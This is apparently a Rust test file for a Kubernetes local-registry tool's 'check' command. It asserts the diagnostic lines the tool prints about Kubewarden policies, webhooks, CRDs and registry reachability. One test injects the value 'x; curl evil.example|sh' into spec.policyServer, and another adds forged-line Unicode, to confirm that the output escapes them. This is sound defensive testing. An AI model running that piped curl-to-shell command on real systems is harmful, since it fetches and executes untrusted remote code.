//! `check` against a stand-in for the API server that answers by path.

use std::collections::BTreeMap;
use std::time::Duration;

use http::{Request, Response};
use k8s_openapi::jiff::{SignedDuration, Timestamp};
use kube::Client;
use kube::client::Body;
use local_registry_check::{Credentials, Location, Probe, Scope, SignIn, check};
use local_registry_cluster::Cluster;
use local_registry_core::RuntimeHost;
use local_registry_declaration::AllowedHosts;
use local_registry_sync::Task;
use serde_json::{Value, json};
use tower_test::mock::pair;

use super::kit::running;
use local_registry_testkit::api_server::{Answer, CONFIG_MAP, POLICY, config_map, send, status};
use local_registry_testkit::repository::{objects, read};

const SERVER: &str = "/apis/policies.kubewarden.io/v1/policyservers/default";
pub(super) const BUILDS: &str = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/builds.shipwright.io";
const RUNS: &str = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/buildruns.shipwright.io";
pub(super) const STORED: &str = "/apis/shipwright.io/v1beta1/builds";
pub(super) const NAMESPACES: &str = "/api/v1/namespaces";
/// The namespaces that ask for an alias, and the Services that have its name.
const ALIAS_NAMESPACES: &str = "/api/v1/namespaces?alias";
const ALIASES: &str = "/api/v1/services";
/// The namespaces whose builds push, and the accounts of their credentials.
const PUSH_NAMESPACES: &str = "/api/v1/namespaces?push";
const ACCOUNTS: &str = "/api/v1/serviceaccounts";
/// What begins the paths of webhook configurations and guards.
const ADMISSION: &str = "/apis/admissionregistration.k8s.io/v1/";
pub(super) const WEBHOOK: &str =
    "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/clusterwide-local";
const SERVERS: &str = "/api/v1/namespaces/kubewarden/pods";
const REVIEW: &str = "/apis/authorization.k8s.io/v1/subjectaccessreviews";

pub(super) const SERVICE: &str = "/api/v1/namespaces/kubewarden/services/policy-server-default";
/// A certificate in PEM, as far as anybody looks, in base64.
pub(super) const AUTHORITY: &str =
    "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1BTUNBUUU9Ci0tLS0tRU5EIENFUlRJRklDQVRFLS0tLS0K";

/// The name of the kit's registry.
pub(super) const KIT: &str = "registry.local-registry.svc.cluster.local:5000";

pub(super) fn list(items: &[Value]) -> Value {
    json!({"apiVersion": "v1", "kind": "List", "metadata": {"resourceVersion": "1"}, "items": items})
}

pub(super) fn build(name: &str, output: Value) -> Value {
    let mut build = json!({"metadata": {"name": name, "namespace": "team"}, "spec": {"strategy": {"name": "x"}}});
    build["spec"]["output"] = output;
    build
}

/// A Build with the record of its local output, and with its label.
fn recorded(name: &str, output: Value) -> Value {
    let mut build = labelled(build(name, output));
    build["metadata"]["annotations"] = json!({"local-registry-hosting/output": "recorded"});
    build
}

/// A Build with the policy's label.
pub(super) fn labelled(mut build: Value) -> Value {
    build["metadata"]["labels"] = json!({"local-registry-hosting/output": "local"});
    build
}

/// A namespace with these labels, and with that of its name, which the API server adds.
pub(super) fn namespace(name: &str, labels: Value) -> Value {
    let mut namespace = json!({"metadata": {"name": name}});
    namespace["metadata"]["labels"] = labels;
    namespace["metadata"]["labels"]["kubernetes.io/metadata.name"] = json!(name);
    namespace
}

/// A webhook configuration or an object of a guard, by its path, as it should be.
pub(super) fn admission(path: &str) -> Option<Value> {
    let (plural, name) = path.strip_prefix(ADMISSION)?.split_once('/')?;
    let kind = match plural {
        "validatingadmissionpolicies" => "ValidatingAdmissionPolicy",
        "validatingadmissionpolicybindings" => "ValidatingAdmissionPolicyBinding",
        _ => return Some(webhook(name)),
    };
    let files = ["images", "inherited", "workloads", "labelled"];
    let files = files.map(|file| format!("charts/local-registry/files/guards/{file}.yaml"));
    files
        .iter()
        .map(String::as_str)
        .flat_map(objects)
        .find(|object| object["kind"] == kind && object["metadata"]["name"] == name)
}

/// The webhook configuration of a policy, as Kubewarden's controller makes it.
fn webhook(name: &str) -> Value {
    let is_for = |part: &str| name.contains(part);
    let policy = match () {
        () if is_for("labelled") => "labelled",
        () if is_for("workloads") => "workloads",
        () => "builds",
    };
    let rules = &read(&format!("charts/local-registry/files/policies/{policy}.yaml"))["spec"]["rules"];
    let selector = if name.starts_with("namespaced-team-") {
        json!({"matchLabels": {"kubernetes.io/metadata.name": "team"}})
    } else {
        json!({"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["kubewarden"]}]})
    };
    let service =
        json!({"namespace": "kubewarden", "name": "policy-server-default", "path": format!("/validate/{name}")});
    json!({
        "metadata": {"name": name},
        "webhooks": [{
            "clientConfig": {"service": service, "caBundle": AUTHORITY}, "failurePolicy": "Fail", "rules": rules,
            "namespaceSelector": selector, "objectSelector": {}, "matchConditions": [],
        }],
    })
}

/// A cluster in which every link holds: its objects by path. What is null or not here is not found, but for the webhooks of
/// policies and the guards, which are as they should be.
pub(super) fn cluster() -> BTreeMap<&'static str, Value> {
    let image = json!({"properties": {"image": {"type": "string"}, "local": {"type": "boolean"}}});
    let spec = json!({"properties": {"output": image, "source": {"properties": {"ociArtifact": image}}}});
    let crd = |spec: Value| {
        let schema = json!({"openAPIV3Schema": {"properties": {"spec": spec}}});
        json!({"metadata": {"name": "x"}, "spec": {"versions": [{"name": "v1beta1", "served": true, "schema": schema}, {"name": "v1alpha1", "served": false}]}})
    };
    let run = json!({"properties": {"output": image, "build": {"properties": {"spec": spec}}}});
    BTreeMap::from([
        (CONFIG_MAP, config_map("hostFromClusterNetwork: kind-registry.local:5000")),
        (
            POLICY,
            json!({
                "metadata": {"name": "local"},
                "spec": {
                    "mutating": true, "mode": "protect", "failurePolicy": "Fail",
                    "rules": [{
                        "apiGroups": ["shipwright.io"], "apiVersions": ["v1alpha1", "v1beta1"],
                        "resources": ["builds", "buildruns"], "operations": ["CREATE", "UPDATE"],
                    }],
                    "settings": {"host": "kind-registry.local:5000", "insecure": true},
                    "contextAwareResources": [{"apiVersion": "shipwright.io/v1beta1", "kind": "Build"}],
                },
                "status": {"policyStatus": "active", "conditions": [
                    {"type": "PolicyActive", "status": "True"}, {"type": "PolicyUniquelyReachable", "status": "True"},
                ]},
            }),
        ),
        (
            STORED,
            list(&[
                recorded("a", json!({"image": "team/app", "local": true})),
                build("b", json!({"image": "reg.io/app"})),
            ]),
        ),
        (ALIAS_NAMESPACES, list(&[])),
        (ALIASES, list(&[])),
        (NAMESPACES, list(&[namespace("default", json!({})), namespace("team", json!({"env": "prod"}))])),
        (SERVER, json!({"metadata": {"name": "default"}, "spec": {"serviceAccountName": "policy-server"}})),
        (BUILDS, crd(spec)),
        (RUNS, crd(run)),
        (REVIEW, reviewed(true)),
        (SERVERS, list(&[running("policy-server-1", "node-1")])),
        (
            SERVICE,
            json!({"metadata": {"name": "policy-server-default", "namespace": "kubewarden"}, "spec": {"ports": [{"port": 443}, {"port": 8080}]}}),
        ),
    ])
}

pub(super) fn plain_http() -> Probe {
    Probe {
        addresses: Ok(vec!["10.0.0.5".parse().unwrap()]),
        https: Err("not TLS".to_owned()),
        http: Some(Ok(200)),
        sign_in: None,
    }
}

fn unreachable() -> Probe {
    Probe {
        addresses: Err("unknown".to_owned()),
        https: Err("refused".to_owned()),
        http: Some(Err("refused".to_owned())),
        sign_in: None,
    }
}

pub(super) async fn run(
    objects: BTreeMap<&'static str, Value>,
    policy: &str,
    location: Location,
    probe: Probe,
) -> Vec<String> {
    let task = Task { policies: vec![policy.parse().unwrap()], ..Task::default() };
    run_task(objects, &task, location, probe).await
}

/// The answer to the question whether the policy server may get Builds.
fn reviewed(is_allowed: bool) -> Value {
    let builds = json!({"group": "shipwright.io", "resource": "builds", "verb": "get"});
    json!({
        "spec": {"user": "system:serviceaccount:kubewarden:policy-server", "resourceAttributes": builds},
        "status": {"allowed": is_allowed},
    })
}

/// An object by the name that its path has.
fn named(object: &Value, path: &str) -> Value {
    let mut object = object.clone();
    if object.get("items").is_none() && object.get("metadata").is_some() {
        object["metadata"]["name"] = json!(path.rsplit('/').next());
    }
    object
}

pub(super) async fn run_task(
    objects: BTreeMap<&'static str, Value>,
    task: &Task,
    location: Location,
    probe: Probe,
) -> Vec<String> {
    run_in(objects, task, &Scope { location, ..Scope::default() }, probe).await.0
}

/// The lines, and what the API server was asked.
async fn run_in(
    objects: BTreeMap<&'static str, Value>,
    task: &Task,
    scope: &Scope,
    probe: Probe,
) -> (Vec<String>, Vec<String>) {
    let (service, mut handle) = pair::<Request<Body>, Response<Answer>>();
    let serving = async move {
        let mut asked = Vec::new();
        while let Some((request, response)) = handle.next_request().await {
            asked.push(request.uri().to_string());
            let path = request.uri().path();
            let query = request.uri().query().unwrap_or_default();
            let asks_for = |label| query.contains(&format!("labelSelector=local-registry-hosting%2F{label}"));
            let path = match () {
                () if asks_for("alias") => ALIAS_NAMESPACES,
                () if asks_for("push") => PUSH_NAMESPACES,
                () => path,
            };
            // The next page of a list is the object under the list's token.
            let token = query.split("continue=").nth(1);
            let path = token.unwrap_or(path);
            match objects.get(path) {
                Some(Value::Number(code)) => {
                    let code = u16::try_from(code.as_u64().unwrap()).unwrap();
                    send(response, code, &status(code, "Forbidden", "no", &json!({})));
                }
                Some(object) if !object.is_null() => send(response, 200, &named(object, path)),
                None if admission(path).is_some() => send(response, 200, &admission(path).unwrap()),
                _ => {
                    let name = path.rsplit('/').next();
                    send(response, 404, &status(404, "NotFound", "not found", &json!({"name": name})));
                }
            }
        }
        asked
    };
    let cluster = Cluster::new(Client::new(service, "default"));
    let checking = async move {
        check(&cluster, task, scope, async |host: &RuntimeHost| {
            if ["kind-registry.local:5000", "[fd00::5]:5000", KIT].contains(&host.as_str()) {
                probe.clone()
            } else {
                unreachable()
            }
        })
        .await
    };
    let both = Box::pin(async { tokio::join!(checking, serving) });
    let (links, asked) = tokio::time::timeout(Duration::from_mins(1), both).await.expect("the check did not end");
    (links.iter().map(ToString::to_string).collect(), asked)
}

/// The lines that do not start with ✓, but for the last one, which follows from the others.
pub(super) async fn trouble(
    change: impl FnOnce(&mut BTreeMap<&'static str, Value>),
    location: Location,
    probe: Probe,
) -> Vec<String> {
    let mut objects = cluster();
    change(&mut objects);
    let mut lines = run(objects, "local", location, probe).await;
    let last = lines.pop().unwrap();
    assert!(last.contains(" safeguards: "), "{last}");
    lines.into_iter().filter(|line| !line.starts_with('✓')).collect()
}

#[tokio::test]
async fn a_chain_that_holds() {
    assert_eq!(
        run(cluster(), "local", Location::InCluster, plain_http()).await,
        [
            "✓ ConfigMap: the local registry is kind-registry.local:5000",
            "✓ host: image parsers read kind-registry.local:5000 as a registry",
            "✓ name: kind-registry.local:5000 is 10.0.0.5",
            "✓ registry: http://kind-registry.local:5000/v2/ answers 200, and the settings say insecure: true",
            "✓ CRD builds.shipwright.io: it has the field local beside every image",
            "✓ CRD buildruns.shipwright.io: it has the field local beside every image",
            "✓ policy local: it is active, and its policy server serves its newest settings",
            "✓ policy local webhook: the API server asks it at kubewarden/policy-server-default/validate/clusterwide-local",
            "✓ policy local server: 1 of 1 ready in kubewarden, by the labels kubewarden/policy-server=default",
            "✓ policy local namespaces: it is asked in every namespace that has Builds",
            "✓ policy local mode: protect",
            "✓ policy local failurePolicy: Fail",
            "✓ policy local rules: they cover Builds and BuildRuns in both versions, new and updated",
            "✓ policy local selectors: they leave no namespace and no object out",
            "✓ policy local matchConditions: there are none, so it is asked about every Build and BuildRun",
            "✓ policy local settings: they say what the cluster declares, and are served",
            "✓ policy local rights: service account kubewarden/policy-server may get Builds",
            "✓ guard local-registry-guard: it is bound, and denies what the policy does not see",
            "✓ guard local-registry-guard-inherited: it is bound, and denies what the policy does not see",
            "✓ Builds: none of 2 has lost local: true, can lose it, or goes to Docker Hub",
            "✓ safeguards: the policy is asked, the guard refuses what it does not see, and the CRDs keep the field",
        ]
    );
}

#[tokio::test]
async fn a_policy_that_nobody_is_asked_about() {
    let check = async |change: fn(&mut BTreeMap<&'static str, Value>), expected: &str| {
        let lines = trouble(change, Location::InCluster, plain_http()).await;
        assert_eq!(lines, [expected]);
    };
    check(
        |objects| drop(objects.insert(WEBHOOK, Value::Null)),
        "✗ policy local webhook: there is no MutatingWebhookConfiguration clusterwide-local, or it is empty: the API server does not ask the policy, and what is local is stored as it is written, or refused by a guard; see that Kubewarden's controller runs, and that the policy's PolicyServer exists; the controller makes the webhook again",
    )
    .await;
    check(
        |objects| {
            let mut found = admission(WEBHOOK).unwrap();
            found["webhooks"][0]["failurePolicy"] = json!("Ignore");
            found["webhooks"][0]["clientConfig"]["service"]["name"] = json!("other");
            objects.insert(WEBHOOK, found);
        },
        "✗ policy local webhook: it calls the Service `kubewarden/other`, not kubewarden/policy-server-default, its failurePolicy is `Ignore`, not Fail; see that Kubewarden's controller runs: it corrects what others change",
    )
    .await;
    check(
        |objects| drop(objects.insert(SERVERS, list(&[]))),
        "✗ policy local server: 0 of 0 ready in kubewarden, by the labels kubewarden/policy-server=default; start the policy server, or name its namespace by --kubewarden-namespace: until it runs, what may be local is refused",
    )
    .await;
    check(
        |objects| drop(objects.insert(WEBHOOK, json!(403))),
        "! policy local webhook: MutatingWebhookConfiguration clusterwide-local: get is forbidden: no; grant `get` on mutatingwebhookconfigurations.admissionregistration.k8s.io/clusterwide-local",
    )
    .await;
}

#[tokio::test]
async fn nothing_is_declared() {
    let lines = trouble(|objects| drop(objects.remove(CONFIG_MAP)), Location::InCluster, plain_http()).await;
    assert_eq!(
        lines[0],
        "✗ ConfigMap: no local registry is declared: there is no ConfigMap kube-public/local-registry-hosting; create it with the host under which pods reach the registry, as KEP-1755 says"
    );
    assert_eq!(
        lines[1],
        format!(
            "! registry: {KIT} answers as a registry does, and is not declared; if it is the local registry, add the line `hostFromClusterNetwork: \"{KIT}\"` to the ConfigMap"
        )
    );
    let lines = trouble(|objects| drop(objects.remove(CONFIG_MAP)), Location::InCluster, unreachable()).await;
    assert!(!lines.iter().any(|line| line.contains("registry: ")), "{lines:?}");
    // Outside of the cluster, its names are those of others.
    let lines = trouble(|objects| drop(objects.remove(CONFIG_MAP)), Location::OutOfCluster, plain_http()).await;
    assert!(!lines.iter().any(|line| line.contains("registry: ")), "{lines:?}");
    let likely = config_map("host: localhost:5001\nhostFromContainerRuntime: kind-registry.local:5000");
    let lines = trouble(|objects| drop(objects.insert(CONFIG_MAP, likely)), Location::InCluster, plain_http()).await;
    assert!(
        lines[0].ends_with("if pods reach the registry by the name that nodes have for it, add the line `hostFromClusterNetwork: \"kind-registry.local:5000\"`"),
        "{lines:?}"
    );
    assert!(lines[1].starts_with("! registry: kind-registry.local:5000 answers as a registry does"), "{lines:?}");
    let broken = config_map("[]");
    let lines = trouble(|objects| drop(objects.insert(CONFIG_MAP, broken)), Location::InCluster, plain_http()).await;
    assert_eq!(
        lines,
        [
            "✗ ConfigMap: kube-public/local-registry-hosting: localRegistryHosting.v1: the value is a list; expected fields, as in `hostFromClusterNetwork: \"kind-registry:5000\"`"
        ]
    );
    let forbidden =
        trouble(|objects| drop(objects.insert(CONFIG_MAP, json!(403))), Location::InCluster, plain_http()).await;
    assert_eq!(forbidden.len(), 1);
    assert!(forbidden[0].starts_with("✗ ConfigMap: ConfigMap kube-public/local-registry-hosting: get is forbidden"));
}

#[tokio::test]
async fn a_host_that_some_programs_cannot_read() {
    let declared = config_map("hostFromClusterNetwork: \"[fd00::5]:5000\"");
    let lines = trouble(|objects| drop(objects.insert(CONFIG_MAP, declared)), Location::InCluster, plain_http()).await;
    assert_eq!(
        lines[0],
        "! host: `[fd00::5]:5000` is an IPv6 address, which buildah, skopeo, podman and CRI-O cannot read in the name of an image; use a name, or an IPv4 address"
    );
}

#[tokio::test]
async fn a_module_that_the_policy_server_can_load_once_only() {
    let guarded = || Probe { http: Some(Ok(401)), ..plain_http() };
    let module = |registry: &str| {
        let module = format!("registry://{registry}/local-registry-policy:v0.1.0");
        move |objects: &mut BTreeMap<&'static str, Value>| {
            objects.get_mut(POLICY).unwrap()["spec"]["module"] = json!(module);
        }
    };
    assert_eq!(
        trouble(module("kind-registry.local:5000"), Location::InCluster, guarded()).await,
        [
            "✗ policy local module: it is in kind-registry.local:5000, which asks for a password, and policy server default has none: when it starts anew, it cannot load the module, and serves no policy; name the module by a host that asks for none (with the registry of the chart: registry-read-only.local-registry.svc.cluster.local:5000, here and in insecureSources), or give the policy server an imagePullSecret"
        ]
    );
    assert_eq!(
        trouble(module("kind-registry.local:5000"), Location::InCluster, plain_http()).await,
        Vec::<String>::new()
    );
    assert_eq!(trouble(module("ghcr.io"), Location::InCluster, guarded()).await, Vec::<String>::new());
    let with_secret = |objects: &mut BTreeMap<&'static str, Value>| {
        module("kind-registry.local:5000")(objects);
        objects.get_mut(SERVER).unwrap()["spec"]["imagePullSecret"] = json!("registry");
    };
    assert_eq!(trouble(with_secret, Location::InCluster, guarded()).await, Vec::<String>::new());
}

#[tokio::test]
async fn a_registry_that_is_out_of_reach_is_a_failure_only_inside() {
    assert_eq!(
        trouble(|_| {}, Location::InCluster, unreachable()).await,
        [
            "✗ name: kind-registry.local:5000 is not resolved: unknown; give the registry that name in the cluster's DNS, or declare another",
            "✗ registry: kind-registry.local:5000 does not answer: HTTPS: refused; HTTP: refused; start the registry, or declare where it is",
        ]
    );
    let elsewhere = "pods may reach it all the same: run the check in a pod";
    assert_eq!(
        trouble(|_| {}, Location::OutOfCluster, unreachable()).await,
        [
            format!("! name: kind-registry.local:5000 is not resolved: unknown; {elsewhere}"),
            format!("! registry: kind-registry.local:5000 does not answer: HTTPS: refused; HTTP: refused; {elsewhere}"),
        ]
    );
}

#[tokio::test]
async fn a_token_server_is_a_link_of_its_own() {
    let asking = |answer| Probe {
        http: Some(Ok(401)),
        sign_in: Some(SignIn::Token { realm: "http://registry-token:5001/token".to_owned(), service: None, answer }),
        ..plain_http()
    };
    assert_eq!(trouble(|_| {}, Location::InCluster, asking(Ok(200))).await, Vec::<String>::new());
    let refused = || Err("Connection refused".to_owned());
    let seen = "http://registry-token:5001/token gives no token, and so nobody can push: Connection refused";
    assert_eq!(
        trouble(|_| {}, Location::InCluster, asking(refused())).await,
        [format!("✗ token server: {seen}; see the pods registry-token and their log")]
    );
    assert_eq!(
        trouble(|_| {}, Location::OutOfCluster, asking(refused())).await,
        [format!("! token server: {seen}; pods may reach it all the same: run the check in a pod")]
    );
}

#[tokio::test]
async fn a_registry_and_settings_that_do_not_fit() {
    let secure = |objects: &mut BTreeMap<&'static str, Value>| {
        objects.get_mut(POLICY).unwrap()["spec"]["settings"] = json!({"host": "kind-registry.local:5000"});
    };
    assert_eq!(
        trouble(secure, Location::InCluster, plain_http()).await,
        [
            "✗ registry: http://kind-registry.local:5000/v2/ answers 200, but HTTPS does not (not TLS); set insecure: true in the policy's settings, or give the registry a certificate"
        ]
    );
    let https = |status| Probe { addresses: plain_http().addresses, https: Ok(status), http: None, sign_in: None };
    assert_eq!(
        trouble(|_| {}, Location::InCluster, https(401)).await,
        [
            "! registry: https://kind-registry.local:5000/v2/ answers 401; insecure: true is not needed in the policy's settings"
        ]
    );
    assert_eq!(trouble(secure, Location::InCluster, https(401)).await, Vec::<String>::new());
    assert_eq!(
        trouble(secure, Location::InCluster, https(404)).await,
        [
            "! registry: https://kind-registry.local:5000/v2/ answers 404; expected 200 or 401: see what else answers there"
        ]
    );
}

#[tokio::test]
async fn a_crd_of_another_shape() {
    let other = |objects: &mut BTreeMap<&'static str, Value>| {
        objects.get_mut(BUILDS).unwrap()["spec"]["versions"][0]["schema"] = json!({});
    };
    assert_eq!(
        trouble(other, Location::InCluster, plain_http()).await,
        [
            "! CRD builds.shipwright.io: it has another shape than is known: v1beta1 schema: found nothing; expected a schema; use the annotations local-registry-hosting/output, /source and /builder",
        ]
    );
}

#[tokio::test]
async fn crds_without_the_field() {
    let lines = trouble(
        |objects| {
            let schema = &mut objects.get_mut(BUILDS).unwrap()["spec"]["versions"][0]["schema"]["openAPIV3Schema"];
            let spec = &mut schema["properties"]["spec"]["properties"];
            for image in ["/output", "/source/properties/ociArtifact"] {
                let properties = spec.pointer_mut(image).unwrap()["properties"].as_object_mut().unwrap();
                assert!(properties.remove("local").is_some());
            }
            objects.remove(RUNS);
        },
        Location::InCluster,
        plain_http(),
    )
    .await;
    assert_eq!(
        lines,
        [
            "! CRD builds.shipwright.io: it lacks the field local in v1beta1 spec.output, v1beta1 spec.source.ociArtifact; give the sync job --crds, which keeps the field there, or use the annotations local-registry-hosting/output, /source and /builder",
            "✗ CRD buildruns.shipwright.io: not found; install Shipwright",
        ]
    );
}

#[tokio::test]
async fn a_version_of_a_crd_that_is_not_known() {
    let third = |objects: &mut BTreeMap<&'static str, Value>| {
        let versions = objects.get_mut(BUILDS).unwrap()["spec"]["versions"].as_array_mut().unwrap();
        versions.push(json!({"name": "v2", "served": true, "schema": {"openAPIV3Schema": {}}}));
    };
    assert_eq!(
        trouble(third, Location::InCluster, plain_http()).await,
        [
            "! CRD builds.shipwright.io: it has the field local beside every image in the versions that are known; `v2`: this version of local-registry-sync does not know it, and adds no field there; install a version of local-registry-sync that knows it, or use the annotations local-registry-hosting/output, /source and /builder"
        ]
    );
}

#[tokio::test]
async fn a_policy_server_that_cannot_be_called() {
    let check = async |service: Value, expected: &str| {
        let change = |objects: &mut BTreeMap<&'static str, Value>| drop(objects.insert(SERVICE, service));
        assert_eq!(trouble(change, Location::InCluster, plain_http()).await, [expected]);
    };
    check(
        Value::Null,
        "✗ policy local service: there is no Service kubewarden/policy-server-default, so what the policy is asked about is refused; see that Kubewarden's controller runs: it makes the Service of a policy server again",
    )
    .await;
    check(
        json!({"metadata": {"name": "policy-server-default", "namespace": "kubewarden"}, "spec": {"ports": [{"port": 8443}]}}),
        "✗ policy local service: the Service kubewarden/policy-server-default has no port 443, which the webhook calls, so what the policy is asked about is refused; see that Kubewarden's controller runs: it makes the Service of a policy server again",
    )
    .await;
    check(
        json!(403),
        "! policy local service: Service kubewarden/policy-server-default: get is forbidden: no; grant `get` on services/policy-server-default in kubewarden",
    )
    .await;
}

#[tokio::test]
async fn a_policy_server_that_does_not_exist_or_cannot() {
    assert_eq!(
        trouble(|objects| drop(objects.remove(SERVER)), Location::InCluster, plain_http()).await,
        ["✗ policy local rights: PolicyServer default: not found; create it, or correct spec.policyServer"]
    );
    let lines = trouble_with(|policy| {
        policy["spec"]["policyServer"] = json!("x; curl evil.example|sh\n✓ safeguards: all is well");
        policy["status"]["conditions"] = json!([]);
    })
    .await;
    let named = r"`x; curl evil.example|sh\n✓ safeguards: all is well`";
    assert_eq!(
        lines,
        [
            "✗ policy local: it has no condition PolicyActive, it has no condition PolicyUniquelyReachable; see what the Kubewarden controller says of it: kubectl describe clusteradmissionpolicy local".to_owned(),
            format!("✗ policy local webhook: the policy's spec.policyServer is {named}, which names none; see that Kubewarden's controller runs: it corrects what others change"),
            "! policy local settings: they say what the cluster declares, but it is not known whether they are served".to_owned(),
            format!("✗ policy local rights: spec.policyServer is {named}, which names none; set spec.policyServer to the name of a PolicyServer"),
        ]
    );
}

#[tokio::test]
async fn what_others_wrote_forges_no_line_and_is_short() {
    let lines = trouble_with(|policy| {
        policy["status"]["conditions"][0] =
            json!({"type": "PolicyActive", "status": "False", "message": "a\n✓ b\u{202e}c"});
        policy["spec"]["matchConditions"] = json!([{"name": "x\u{2028}✓ y\n✓ z", "expression": "false"}]);
        policy["spec"]["settings"] = json!({"host": "old:5000", "insecure": true, "other": "long ".repeat(1000)});
    })
    .await;
    assert!(lines.iter().all(|line| !line.contains(['\n', '\u{2028}', '\u{202e}'])), "{lines:#?}");
    assert!(lines.iter().all(|line| line.len() < 1000), "{lines:#?}");
    assert!(lines.iter().any(|line| line.contains(r"x\u{2028}✓ y\n✓ z differs")), "{lines:#?}");
}

#[tokio::test]
async fn a_policy_that_mutates_in_one_namespace_makes_no_guard_of_one_for_all() {
    let mut objects = cluster();
    let mut policy = objects[POLICY].clone();
    policy["spec"]["settings"]["lookupBuilds"] = json!(false);
    objects.insert("/apis/policies.kubewarden.io/v1/namespaces/team/admissionpolicies/local", policy);
    objects.get_mut(POLICY).unwrap()["spec"]["mutating"] = json!(false);
    let policies = ["local", "team/local"].map(|name| name.parse().unwrap()).to_vec();
    let task = Task { policies, ..Task::default() };
    let lines = run_task(objects, &task, Location::InCluster, plain_http()).await;
    let expected =
        "✗ policy local mutating: spec.mutating is not true; set spec.mutating: true, or nothing is injected";
    assert!(lines.iter().any(|line| line == expected), "{lines:#?}");
}

#[tokio::test]
async fn policies_that_do_not_work() {
    assert_eq!(
        trouble(|objects| drop(objects.remove(POLICY)), Location::InCluster, plain_http()).await.last().unwrap(),
        "✗ policy local: ClusterAdmissionPolicy local: not found; create it, or correct --policy"
    );
    let broken = json!({"metadata": {"name": "local"}, "spec": {"settings": {"host": "old:5000", "insecure": true}}, "status": {"policyStatus": "pending"}});
    assert_eq!(
        trouble(|objects| drop(objects.insert(POLICY, broken)), Location::InCluster, plain_http()).await,
        [
            "✗ policy local: its status is pending, not active; see what the Kubewarden controller says of it: kubectl describe clusteradmissionpolicy local",
            "✗ policy local mutating: spec.mutating is not true; set spec.mutating: true, or nothing is injected",
            "✗ policy local rules: they leave out CREATE of v1alpha1 builds, UPDATE of v1alpha1 builds, CREATE of v1alpha1 buildruns, UPDATE of v1alpha1 buildruns, CREATE of v1beta1 builds, UPDATE of v1beta1 builds, CREATE of v1beta1 buildruns, UPDATE of v1beta1 buildruns; give it the rules of charts/local-registry/files/policies/builds.yaml",
            "✗ policy local settings: they are {\"host\":\"old:5000\",\"insecure\":true}, and the cluster declares {\"host\":\"kind-registry.local:5000\"}; run local-registry-sync for this policy",
            "✗ policy local rights: spec.contextAwareResources does not list Builds; add apiVersion shipwright.io/v1beta1, kind Build to spec.contextAwareResources",
        ]
    );
}

#[tokio::test]
async fn a_policy_server_without_the_right_to_read_builds() {
    assert_eq!(
        trouble(|objects| drop(objects.insert(REVIEW, reviewed(false))), Location::InCluster, plain_http()).await,
        [
            "✗ policy local rights: service account kubewarden/policy-server of policy server default may not get Builds; bind it to a ClusterRole with the verb get on builds.shipwright.io"
        ]
    );
    assert_eq!(
        trouble(|objects| drop(objects.insert(REVIEW, json!(403))), Location::InCluster, plain_http()).await,
        [
            "! policy local rights: SubjectAccessReview: create is forbidden: no; grant `create` on subjectaccessreviews.authorization.k8s.io"
        ]
    );
}

#[tokio::test]
async fn a_namespaced_policy_may_not_look_builds_up() {
    let path = "/apis/policies.kubewarden.io/v1/namespaces/team/admissionpolicies/local";
    let mut objects = cluster();
    let mut policy = objects.remove(POLICY).unwrap();
    objects.insert(path, policy.clone());
    let lines = run(objects.clone(), "team/local", Location::InCluster, plain_http()).await;
    let rights = lines.iter().find(|line| line.contains(" rights: "));
    assert_eq!(
        rights.unwrap(),
        "✗ policy team/local rights: a namespaced policy may not look Builds up; set lookupBuilds: false in its settings, or use a ClusterAdmissionPolicy"
    );
    policy["spec"]["settings"]["lookupBuilds"] = json!(false);
    objects.insert(path, policy);
    let lines = run(objects.clone(), "team/local", Location::InCluster, plain_http()).await;
    assert_eq!(
        lines[lines.len() - 5..],
        [
            "✓ policy team/local rights: it does not look Builds up (lookupBuilds: false)",
            "✓ guard local-registry-guard: it is bound, and denies what the policy does not see",
            "✓ guard local-registry-guard-inherited: it is bound, and denies what the policy does not see",
            "✗ Builds: 1 have a local output without a registry, which goes to Docker Hub while no policy looks Builds up: team/a; once the policy is asked, have them resolved, by: kubectl annotate builds --all --all-namespaces --overwrite resolved-at=\"$(date +%s)\"",
            "✓ safeguards: the policy is asked, the guard refuses what it does not see, and the CRDs keep the field",
        ]
    );
    objects.insert(STORED, list(&[build("a", json!({"image": "kind-registry.local:5000/team/app"}))]));
    let lines = run(objects, "team/local", Location::InCluster, plain_http()).await;
    assert_eq!(lines[lines.len() - 2], "✓ Builds: none of 1 has lost local: true, can lose it, or goes to Docker Hub");
}

/// The lines that do not start with ✓ where the policy is changed so.
pub(super) async fn trouble_with(change: impl FnOnce(&mut Value)) -> Vec<String> {
    trouble(|objects| change(objects.get_mut(POLICY).unwrap()), Location::InCluster, plain_http()).await
}

#[tokio::test]
async fn a_policy_server_that_hangs_while_it_rolls() {
    let hangs = |policy: &mut Value| {
        policy["status"]["conditions"] = json!([
            {"type": "PolicyActive", "status": "False", "message": "The policy webhook has not been created"},
            {"type": "PolicyUniquelyReachable", "status": "False", "message": "The latest replica set is not uniquely reachable"},
        ]);
    };
    assert_eq!(
        trouble_with(hangs).await,
        [
            "✗ policy local: PolicyActive is False: The policy webhook has not been created, PolicyUniquelyReachable is False: The latest replica set is not uniquely reachable; wait until the policy server has rolled; if it hangs, see why: kubectl describe pods --namespace kubewarden --selector kubewarden/policy-server=default",
            "! policy local settings: they say what the cluster declares, but it is not known whether they are served",
        ]
    );
    let lines = trouble_with(|policy| policy["status"]["conditions"] = json!([])).await;
    assert!(
        lines[0].starts_with(
            "✗ policy local: it has no condition PolicyActive, it has no condition PolicyUniquelyReachable;"
        ),
        "{lines:?}"
    );
}

#[tokio::test]
async fn policies_that_do_nothing() {
    assert_eq!(
        trouble_with(|policy| policy["spec"]["mode"] = json!("monitor")).await,
        [
            "✗ policy local mode: it is monitor, so the policy is asked, but its answers are ignored; set spec.mode: protect"
        ]
    );
    assert_eq!(
        trouble_with(|policy| policy["spec"]["failurePolicy"] = json!("Ignore")).await,
        [
            "✗ policy local failurePolicy: it is Ignore, so an image that cannot be resolved goes to Docker Hub; set spec.failurePolicy: Fail"
        ]
    );
    assert_eq!(
        trouble_with(|policy| policy["spec"]["rules"][0]["operations"] = json!(["CREATE"])).await,
        [
            "✗ policy local rules: they leave out UPDATE of v1alpha1 builds, UPDATE of v1alpha1 buildruns, UPDATE of v1beta1 builds, UPDATE of v1beta1 buildruns; give it the rules of charts/local-registry/files/policies/builds.yaml"
        ]
    );
